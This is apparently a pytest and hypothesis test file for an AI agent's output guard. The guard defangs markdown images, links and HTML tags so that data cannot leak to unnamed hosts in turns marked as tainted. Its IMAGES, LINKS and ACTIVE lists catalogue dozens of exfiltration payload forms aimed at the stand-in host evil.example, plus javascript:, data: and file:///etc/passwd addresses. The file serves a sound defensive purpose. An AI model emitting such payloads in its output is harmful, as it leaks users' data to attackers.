"""Images and links: what would carry data away is dead, what was named stays."""

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from opencrust_agent.guard.links import Named, dead, defang

DATA = "c2VjcmV0IGRhdGE"
PAGE = "Read https://news.example/today and https://tracker.example/page?id=7 . See also shop.example"
NAMED = Named.of(["please look at https://news.example/today and my blog anna.example"], [PAGE])

IMAGES = [
    "![x](https://evil.example/p.png?d={d})",
    "![](https://evil.example/{d})",
    "![x](<https://evil.example/{d}>)",
    '![x](https://evil.example/{d} "title")',
    "![x]( https://evil.example/{d} )",
    "![x](//evil.example/{d})",
    "![x](https&#58;//evil.example/{d})",
    "![x](https\\://evil.example/{d})",
    "![x](HTTPS://EVIL.EXAMPLE/{d})",
    "![x](http:\\\\evil.example\\{d})",
    "![x](https://{d}.evil.example/)",
    "![x](https://user:{d}@evil.example/)",
    "![x](ftp://evil.example/{d})",
    "![a [b] c](https://evil.example/{d})",
    "![x](https://evil.example/(a){d})",
    "[![x](https://evil.example/{d})](https://news.example/today)",
    "![x][1]\n\n[1]: https://evil.example/{d}",
    "![x]\n\n[x]: <https://evil.example/{d}>",
    "![x][]\n\n[X]: https://evil.example/{d}",
    '<img src="https://evil.example/{d}">',
    "<img src=https://evil.example/{d}>",
    "<IMG\nSRC='//evil.example/{d}'",
    '<img srcset="https://evil.example/{d} 2x">',
    '<video poster="https://evil.example/{d}"></video>',
    '<iframe src="https://evil.example/{d}"></iframe>',
    '<div style="background:url(https://evil.example/{d})">x</div>',
    '<svg><image href="https://evil.example/{d}"/></svg>',
    '<link rel="stylesheet" href="https://evil.example/{d}">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/{d}">',
    '<img src="&#104;ttps://evil.example/{d}">',
    "![x](https://tracker.example/p?d={d})",
    "![x](https://tracker.example/{d})",
]
LINKS = [
    "[more](https://evil.example/?d={d})",
    "[more](https://evil.example/{d})",
    "[more](https://evil.example/#{d})",
    "[more](https://{d}.evil.example/)",
    "[more][1]\n\n[1]: https://evil.example/?d={d}",
    "<https://evil.example/?d={d}>",
    "https://evil.example/?d={d}",
    "http://evil.example/{d}.",
    "www.evil.example/{d}",
    "evil.example/{d}",
    "//evil.example/{d}",
    "https://93.184.216.34/{d}",
    "https://[2606:2800:220::1]/{d}",
    "{d}longenoughtobedata.evil.example",
    "https://tracker.example/page?id={d}",
    "https://tracker.example/page?id=7&x={d}",
    "https://news.example.evil.example/{d}",
    "https://news.example@evil.example/{d}",
    "[x](mailto:evil@evil.example?body={d})",
    "[x](slack://channel?d={d})",
    '<a href="https://evil.example/{d}">x</a>',
    "`https://evil.example/{d}`",
    "```\nhttps://evil.example/{d}\n```",
]
ACTIVE = [
    "[x](javascript:alert(1))", "[x](JaVaScript:alert(1))", "[x](data:text/html,x)",
    '<a href="javascript:alert(1)">x</a>', '<a href="java\nscript:alert(1)">x</a>', "[x](vbscript:x)", "![x](file:///etc/passwd)",
]  # fmt: skip


def loads(text: str) -> bool:
    """A crude judge, written apart: does anything remain that names a foreign host with data?"""
    return DATA in text


@pytest.mark.parametrize("form", [*IMAGES, *LINKS])
def test_in_a_tainted_turn_nothing_carries_data(form: str) -> None:
    done = defang("See: " + form.format(d=DATA) + " ok", NAMED, tainted=True)
    assert not loads(done.text)
    assert not re.search(
        r"(?i)https?:|!\[|src=|://|//evil|evil\.example", done.text.replace("https://news.example/today", "")
    )
    assert done.images + done.links >= 1


@pytest.mark.parametrize("form", IMAGES[:-2])
def test_no_image_of_an_unnamed_host_loads_even_in_a_clean_turn(form: str) -> None:
    done = defang("See: " + form.format(d=DATA) + " ok", NAMED, tainted=False)
    assert done.images >= 1
    assert not re.search(r"(?i)!\[|<\s*(img|iframe|video|div|svg|link|meta|image)\b[^>]*evil", done.text)


@pytest.mark.parametrize("text", ACTIVE)
@pytest.mark.parametrize("tainted", [True, False])
def test_active_addresses_are_dead_always(text: str, tainted: bool) -> None:
    done = defang(text, NAMED, tainted=tainted)
    assert done.images + done.links == 1
    assert not re.search(r"(?i)java\s*\\?script:|vbscript:|data:text|file:", done.text)


@pytest.mark.parametrize(
    "text",
    [
        "[today](https://news.example/today) and https://news.example/other?page=2",
        "![picture](https://news.example/pic.png)",
        "anna.example/post/1 and https://www.anna.example/?s=x",
        "https://tracker.example/page?id=7",
        "https://tracker.example/ and https://shop.example",
        "[anchor](#top) [ours](/v1/attachments/1) ![inline](data:image/png;base64,AAAA)",
        "write to [anna](mailto:anna@anna.example) or anna@anna.example",
        "Run main.py, then `asyncio.run(main())`; needs Python 3.11.7, e.g. config.json/x and a.b.c(d).",
        "and/or, TCP/IP, 1/2, 24/7, https is a scheme: so is mailto.",
    ],
)
def test_in_a_tainted_turn_what_was_named_stays(text: str) -> None:
    assert defang(text, NAMED, tainted=True).text == text


def test_in_a_clean_turn_links_stay_and_a_tools_images_too() -> None:
    text = "[x](https://any.example/?a=b#c) https://any.example/d ![p](https://tracker.example/p.png)"
    assert defang(text, NAMED, tainted=False).text == text


def test_an_image_of_an_unnamed_host_becomes_a_link_in_a_clean_turn() -> None:
    assert defang("![a cat](https://cats.example/1.png)", Named(), tainted=False).text == (
        "[a cat](https://cats.example/1.png)"
    )


def test_what_a_person_is_asked_about_is_readable_and_no_link() -> None:
    assert dead("url = https://evil.example:8/a.b?d=x.y") == "url = https[:]//evil[.]example[:]8/a.b?d=x.y"
    assert dead("to = evil.example/x") == "to = evil[.]example/x"
    assert dead("path = notes/todo.md, bob@example.org, 3.14, main.py") == (
        "path = notes/todo.md, bob@example.org, 3.14, main.py"
    )


def test_marks_of_our_own_in_a_text_are_no_marks() -> None:
    assert defang("a\ue0007\ue001b", NAMED, tainted=True).text == "a7b"


def test_what_is_defanged_can_still_be_read() -> None:
    text = defang("[the report](https://evil.example/?d=x)", NAMED, tainted=True).text
    assert text == "the report (link removed: evil[.]example)"


@settings(max_examples=100, deadline=None)
@given(st.sampled_from([*IMAGES, *LINKS[:7]]), st.text(max_size=60), st.text(max_size=60))
def test_whatever_stands_around_it(form: str, before: str, after: str) -> None:
    done = defang(f"{before}\n\n{form.format(d=DATA)}\n\n{after}", NAMED, tainted=True)
    assert not loads(done.text)


@settings(max_examples=100, deadline=None)
@given(st.text(alphabet="![]()<>\\`~#/:.ahtps evil\n\"'&;=", max_size=200))
def test_any_text_comes_to_an_end_and_a_second_look_finds_nothing_new(text: str) -> None:
    once = defang(text, NAMED, tainted=True).text
    assert defang(once, NAMED, tainted=True).text == once
